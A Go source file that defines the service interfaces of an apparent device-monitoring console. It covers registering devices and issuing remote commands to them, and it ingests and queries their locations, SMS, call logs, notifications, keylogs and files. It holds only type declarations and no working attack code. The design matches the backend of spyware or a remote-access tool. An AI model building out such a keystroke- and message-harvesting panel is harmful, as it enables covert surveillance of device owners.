package console

import (
	"context"
	"time"

	"fleetpanel.dev/device-console-service/pkg/db"
	"fleetpanel.dev/device-console-service/pkg/models"
)

// DeviceAttrs carries the mutable device attributes of one registration,
// heartbeat or admin update. Nil fields were absent from the request and
// must be left untouched.
type DeviceAttrs struct {
	Manufacturer     *string
	Model            *string
	OSVersion        *string
	FirebaseToken    *string
	LastSeen         *time.Time
	BatteryLevel     *int
	IsCharging       *bool
	NetworkType      *string
	AvailableStorage *int
	TotalStorage     *int
}

type IRegistry interface {
	RegisterOrUpdate(deviceID string, attrs *DeviceAttrs) (*models.Device, error)
	Update(deviceID string, attrs *DeviceAttrs) (*models.Device, error)
	Heartbeat(deviceID string, attrs *DeviceAttrs) (*models.Device, error)
	List(offset, limit int) ([]models.Device, error)
	Get(deviceID string) (*models.Device, error)
}

type ILogs interface {
	IngestLocation(deviceID string, entry *models.DeviceLocation) error
	IngestSms(deviceID string, entry *models.SmsLog) error
	IngestCall(deviceID string, entry *models.CallLog) error
	IngestNotification(deviceID string, entry *models.NotificationLog) error
	IngestKeylog(deviceID string, entry *models.KeyLog) error
	IngestFile(deviceID string, entry *models.FileLog) error

	QueryLocations(deviceID string, cutoff time.Time, limit int) ([]models.DeviceLocation, error)
	QuerySms(deviceID string, cutoff time.Time, limit int) ([]models.SmsLog, error)
	QueryCalls(deviceID string, cutoff time.Time, limit int) ([]models.CallLog, error)
	QueryNotifications(deviceID string, cutoff time.Time, limit int) ([]models.NotificationLog, error)
	QueryKeylogs(deviceID string, cutoff time.Time, limit int) ([]models.KeyLog, error)
	QueryFiles(deviceID string, cutoff time.Time, limit int) ([]models.FileLog, error)
}

type ICommand interface {
	Issue(deviceID, command string, params map[string]any, userID uint) (*models.Command, error)
	History(deviceID string, limit int) ([]models.Command, error)
	ReportStatus(commandID uint, status models.CommandStatus, response *string) error
}

type IAuth interface {
	Register(email, password, fullName string, isSuperuser bool) (*models.User, error)
	Login(email, password string) (string, error)
	LoginWithFirebase(ctx context.Context, idToken string) (string, error)
	Authenticate(token string) (*models.User, error)
}

// IdentityClaims is what the external identity provider vouches for.
type IdentityClaims struct {
	UID           string
	Email         string
	Name          string
	EmailVerified bool
}

// IIdentity verifies provider-issued identity tokens.
type IIdentity interface {
	VerifyIDToken(ctx context.Context, idToken string) (*IdentityClaims, error)
}

// IPush delivers one data payload to one device push token, best effort.
type IPush interface {
	Send(ctx context.Context, token string, data map[string]string) error
}

type Console struct {
	Db         db.DB
	JWTSecret  []byte
	TokenTTL   time.Duration // zero means DefaultTokenTTL
	Identity   IIdentity
	Dispatcher *PushDispatcher

	Registry IRegistry
	Logs     ILogs
	Command  ICommand
	Auth     IAuth
}

type ServiceOpts struct {
	Registry IRegistry
	Logs     ILogs
	Command  ICommand
	Auth     IAuth
}

func (c *Console) WithServices(opts ServiceOpts) *Console {
	if opts.Registry != nil {
		c.Registry = opts.Registry
	}
	if opts.Logs != nil {
		c.Logs = opts.Logs
	}
	if opts.Command != nil {
		c.Command = opts.Command
	}
	if opts.Auth != nil {
		c.Auth = opts.Auth
	}
	return c
}
